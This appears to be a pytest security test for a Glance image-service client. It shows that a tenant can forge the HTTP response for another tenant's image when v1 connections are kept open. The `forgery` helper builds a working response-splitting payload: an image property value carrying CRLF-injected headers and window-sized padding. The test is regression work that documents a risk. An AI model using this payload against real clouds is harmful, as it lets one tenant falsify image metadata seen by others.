# SPDX-License-Identifier: Apache-2.0
"""Attacks that need a real Glance 15.0.2."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator

import pytest
from keystoneauth1 import session as ksa_session

from glance_compat import ImageService, Options
from tests.functional.cloud import Cloud
from tests.security.raw_server import Line, address_of

pytestmark = pytest.mark.functional

#: Bytes that arrive at once: ten segments, the first window of TCP.
WINDOW = 14_600
EVIL = "x-image-meta-property-evil"


def raw_head(url: str, token: str, image_id: str) -> bytes:
    """Return the header block of a v1 HEAD as the server writes it."""
    request = (
        f"HEAD /v1/images/{image_id} HTTP/1.1\r\nHost: glance\r\nX-Auth-Token: {token}\r\n\r\n"
    )
    with socket.create_connection(address_of(url)) as connection:
        connection.sendall(request.encode())
        block = b""
        while b"\r\nDate: " not in block or not block.endswith(b"\r\n\r\n"):
            block += connection.recv(65536)
    return block


def forgery(block: bytes, victim: bytes) -> str:
    """Return a value that completes an image's headers and goes on as a forged response.

    :param block: the header block of the evil image, whose property has the value "x".
    :param victim: the header block of the image to forge.
    """
    before, after = block.lower().split(f"{EVIL}: x\r\n".encode())
    following = block[-len(after) :]
    headers = b"".join(
        line + b"\r\n" for line in following.split(b"\r\n") if line.lower().startswith(b"x-image-")
    )
    begun = b"x\r\n" + headers + b"X-Padding: "
    padding = WINDOW - len(before) - len(f"{EVIL}: ") - len(begun) - 4
    owner = next(line for line in victim.split(b"\r\n") if b"-meta-owner: " in line.lower())
    forged = victim.replace(owner, b"X-Image-Meta-Owner: forged").rstrip(b"\r\n")
    return (begun + b"p" * padding + b"\r\n\r\n" + forged + b"\r\n\r\n").decode()


@pytest.fixture
def tenant(cloud: Cloud) -> ksa_session.Session:
    return cloud.session("demo")


def make(tenant: ksa_session.Session, url: str, **attributes: str) -> str:
    record = {"name": "forged", "disk_format": "raw", "container_format": "bare", **attributes}
    response = tenant.post(f"{url}/v2/images", json=record)
    found: str = response.json()["id"]
    return found


@pytest.fixture
def images(cloud: Cloud, tenant: ksa_session.Session) -> Iterator[tuple[str, str]]:
    """The ids of an evil image and of its victim. The property comes before the name."""
    url = cloud.url("pike-v2")
    made = [make(tenant, url, evil="x"), make(tenant, url)]
    try:
        yield made[0], made[1]
    finally:
        for image_id in made:
            tenant.delete(f"{url}/v2/images/{image_id}")


def owners(
    cloud: Cloud, images: tuple[str, str], delay: float, *, keep: bool
) -> tuple[str | None, str | None]:
    """Return the victim's owner as it is shown after the evil image, and as it is."""
    evil, victim = images
    options = Options(api_version="1", v1_keep_connections=keep, max_attempts=1)
    with Line(cloud.url("pike-v1"), WINDOW, delay) as line:
        service = ImageService(cloud.session("demo"), endpoint_override=line.url, options=options)
        assert service.show(None, evil)["id"] == evil
        shown = service.show(None, victim)["owner"]
        time.sleep(2 * delay)
    return shown, service_at_server(cloud).show(None, victim)["owner"]


def service_at_server(cloud: Cloud) -> ImageService:
    return ImageService(cloud.session("demo"), endpoint_override=cloud.url("pike-v2"))


@pytest.mark.parametrize("delay", [0.02, 0.05])
def test_tenant_cannot_forge_the_next_v1_response(
    cloud: Cloud, tenant: ksa_session.Session, images: tuple[str, str], delay: float
) -> None:
    """With connections kept, the attack works: that is what the option warns of."""
    url, token = cloud.url("pike-v1"), str(tenant.get_token())
    value = forgery(raw_head(url, token, images[0]), raw_head(url, token, images[1]))
    patch = [{"op": "replace", "path": "/evil", "value": value}]
    response = tenant.patch(
        f"{cloud.url('pike-v2')}/v2/images/{images[0]}",
        json=patch,
        headers={"Content-Type": "application/openstack-images-v2.1-json-patch"},
    )
    assert response.status_code == 200
    shown, real = owners(cloud, images, delay, keep=True)
    assert (shown, real) == ("forged", real)
    shown, real = owners(cloud, images, delay, keep=False)
    assert shown == real != "forged"
